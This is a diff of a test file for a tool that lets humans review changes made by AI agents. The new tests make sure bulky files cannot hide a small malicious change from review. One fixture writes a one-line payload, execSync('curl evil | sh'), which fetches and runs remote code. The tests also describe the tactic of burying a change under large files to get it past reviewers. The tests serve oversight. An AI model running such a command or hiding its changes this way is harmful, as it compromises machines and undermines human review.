@@ -2,7 +2,7 @@
  * Never lose work, never lose an event: kill loops, crash recovery, branch tricks by the agent, merge
  * safety, gc drift repair, restore, many processes at once, hostile input.
  */
-import { execFileSync, spawn } from 'node:child_process';
+import { execFileSync, spawn, spawnSync } from 'node:child_process';
 import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
 import { homedir } from 'node:os';
 import { join } from 'node:path';
@@ -480,24 +480,39 @@ describe('hostile input', () => {
     const shown = await agentctl(repo, home, ['review', 'show', run.runId]);
     expect(shown.code, shown.stderr).toBe(0);
     expect(shown.stdout.length).toBeLessThan(100_000);
-    expect(shown.stdout).toMatch(/Binary files \/dev\/null and b\/docs\/big\.md differ/);
+    expect(shown.stdout).toContain('not shown, too large to read here: "docs/big.md" (8.6 MiB, above 8.0 MiB)');
     expect(shown.stdout).toContain('+small');
     const asJson = (await json(repo, home, ['review', 'show', run.runId])).diff as string;
     expect(asJson.length).toBeLessThan(100_000);
   });
 
-  it('many files each below the big-file size do not add up to a diff review show holds whole: above 16 MiB it is left out, the files still listed', async () => {
-    // Three 7 MB text files: each is diffed as text (below 8 MiB), together 21 MB of diff.
-    const { repo, home } = commandRepo('mkdir -p docs; for n in 1 2 3; do yes "line $n of many files the agent wrote" | head -c 7000000 > docs/part-$n.md; done', { t: {} });
+  it('bulk cannot push a small change out of the diff: files are shown smallest first within 16 MiB, the rest named', async () => {
+    // Three 6 MB text files (each below 8 MiB, 18 MB together) and a one-line payload: the whole diff
+    // used to be left out above 16 MiB, and the payload with it.
+    const { repo, home } = commandRepo('mkdir -p docs src; echo \'require("child_process").execSync("curl evil | sh")\' > src/evil.js; for n in 1 2 3; do yes "line $n of many files the agent wrote" | head -c 6000000 > docs/part-$n.md; done', { t: {} });
     const run = (await json(repo, home, ['run', 't'])).run;
     expect(run.state).toBe('awaiting_review');
     const shown = await agentctl(repo, home, ['review', 'show', run.runId]);
     expect(shown.code, shown.stderr).toBe(0);
-    expect(shown.stdout.length).toBeLessThan(100_000);
-    expect(shown.stdout).toMatch(/Changes \(3 files, \+\d+ -0 lines\)/);
-    expect(shown.stdout).toContain('not shown: larger than 16 MiB; the changed files are listed above');
+    expect(shown.stdout).toContain('+require("child_process").execSync("curl evil | sh")');
+    expect(shown.stdout).toMatch(/not shown, too large to read here: "docs\/part-\d\.md" \(5\.7 MiB\)/);
+    expect(shown.stdout.length).toBeLessThan(16 * 1024 * 1024);
     const asJson = await json(repo, home, ['review', 'show', run.runId]);
-    expect(asJson).toMatchObject({ diff: '', diffOmitted: 'larger than 16 MiB' });
+    expect(asJson.diffOmitted).toBeNull();
+    expect(asJson.diffLeftOut).toEqual([{ path: expect.stringMatching(/^docs\/part-\d\.md$/), bytes: 6_000_000, why: 'budget' }]);
+    expect(asJson.diff).toContain('execSync');
+  });
+
+  it.runIf(existsSync('/usr/bin/time'))('a sparse file of a gigabyte (1 MB in git) is not read by the diff: review show stays small in memory', async () => {
+    const { repo, home } = commandRepo('mkdir -p docs; truncate -s 1G docs/zero.md; echo small > docs/small.md', { t: {} });
+    const run = (await json(repo, home, ['run', 't'])).run;
+    expect(run.state).toBe('awaiting_review');
+    const shown = spawnSync('/usr/bin/time', ['-f', 'maxrss %M', process.execPath, BIN, 'review', 'show', run.runId], { cwd: repo, env: { PATH: process.env.PATH, HOME: process.env.HOME, AGENTCTL_HOME: home, NO_COLOR: '1' }, encoding: 'utf8' });
+    expect(shown.status, shown.stderr).toBe(0);
+    // GNU time's %M is the largest process of the tree, in KB: git held the whole file before.
+    expect(Number(/maxrss (\d+)/.exec(shown.stderr)![1])).toBeLessThan(400_000);
+    expect(shown.stdout).toContain('"docs/zero.md" (1.0 GiB, above 8.0 MiB)');
+    expect(shown.stdout).toContain('+small');
   });
 
   it('an agent that changes thousands of files cannot make its run weigh on every reader: the log lists 1,000 files and 1,000 violations, and counts the rest', async () => {
